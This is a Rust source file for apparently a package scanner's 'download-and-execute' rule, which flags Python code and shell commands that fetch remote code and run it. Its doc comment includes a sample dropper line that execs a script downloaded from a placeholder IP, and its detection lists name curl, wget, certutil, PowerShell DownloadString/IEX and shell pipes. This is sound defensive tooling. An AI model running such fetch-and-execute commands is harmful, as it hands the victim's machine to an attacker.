use std::collections::BTreeMap;

use crate::finding::{Finding, Severity};
use crate::python::{Call, names, taint};
use crate::rules::execution::install_time_execution::{is_hostile_command, pipes_into_shell};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text};

declare_rule! {
    /// Code that downloads something and runs it.
    ///
    /// ## What it finds
    /// - `exec`/`eval`/`compile` of data read from the network
    ///   (`urlopen(...).read()`, `requests.get(...).text`, a socket's `recv`);
    /// - within one function, a download to disk (`urlretrieve`, a response
    ///   written to a file) followed by running a process or `os.startfile`;
    /// - shell commands that fetch and run in one line (`curl … | sh`,
    ///   `wget … && chmod +x`, PowerShell `DownloadString`/`IEX`,
    ///   `certutil -urlcache`).
    ///
    /// ## Why it matters
    /// Droppers keep the package itself small and innocent-looking and fetch
    /// the real payload when they run, so the payload can change after
    /// review. Running what was just downloaded is the step that hands the
    /// machine over.
    ///
    /// Severity: critical at install, startup or import time; high at
    /// runtime.
    ///
    /// ## Example
    /// ```python
    /// import urllib.request
    /// exec(urllib.request.urlopen("http://203.0.113.7/stage2.py").read())
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1105 (Ingress Tool Transfer), T1204 (User Execution).
    pub struct DownloadExecute {
        id: "AY105",
        slug: "download-and-execute",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for DownloadExecute {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let mut push = |call: &Call, message: String, decoded: Option<String>| {
                let mut f = code_finding(&Self::META, file, call, message);
                if !call.context.is_automatic() {
                    f.severity = Severity::High;
                }
                f.decoded = decoded;
                out.push(f);
            };
            let mut functions: BTreeMap<Option<&str>, Vec<&Call>> = BTreeMap::new();
            for call in &file.calls {
                functions
                    .entry(call.function.as_deref())
                    .or_default()
                    .push(call);
                if names::is_code_exec(&call.name) && call.all_args().any(|a| a.has(taint::NETWORK))
                {
                    push(
                        call,
                        format!("`{}` runs code read from the network", call.name),
                        None,
                    );
                } else if names::is_process(&call.name)
                    && let Some(cmd) = shell_text(call).filter(|c| fetches_and_runs(c))
                {
                    push(
                        call,
                        format!("`{}` runs a command that downloads and executes", call.name),
                        Some(cmd),
                    );
                }
            }
            for calls in functions.values() {
                let download = calls.iter().position(|c| {
                    names::is_download_to_file(&c.name)
                        || ((c.name.ends_with(".write") || c.name.ends_with(".write_bytes"))
                            && c.all_args().any(|a| a.has(taint::NETWORK)))
                });
                let Some(start) = download else { continue };
                let run = calls[start..].iter().find(|c| {
                    names::is_process(&c.name)
                        && shell_text(c).is_none_or(|t| !fetches_and_runs(&t))
                });
                if let Some(run) = run {
                    let url = calls[start]
                        .arg_texts()
                        .find(|t| t.contains("://"))
                        .unwrap_or("a file from the network")
                        .to_owned();
                    push(
                        run,
                        format!("downloads {url} and runs a process with `{}`", run.name),
                        shell_text(run),
                    );
                }
            }
        }
    }
}

/// One command line that both fetches and executes.
fn fetches_and_runs(cmd: &str) -> bool {
    let lower = cmd.to_ascii_lowercase();
    let fetches = [
        "curl ",
        "wget ",
        "downloadstring",
        "downloadfile",
        "invoke-webrequest",
        "iwr ",
        "certutil",
        "bitsadmin",
        "urlopen",
    ]
    .iter()
    .any(|m| lower.contains(m));
    let runs = [
        "chmod +x",
        "iex",
        "invoke-expression",
        "start-process",
        "&& ./",
        "; ./",
        ".exe",
        "-exec",
    ]
    .iter()
    .any(|m| lower.contains(m))
        || pipes_into_shell(&lower);
    fetches && runs && is_hostile_command(cmd)
}
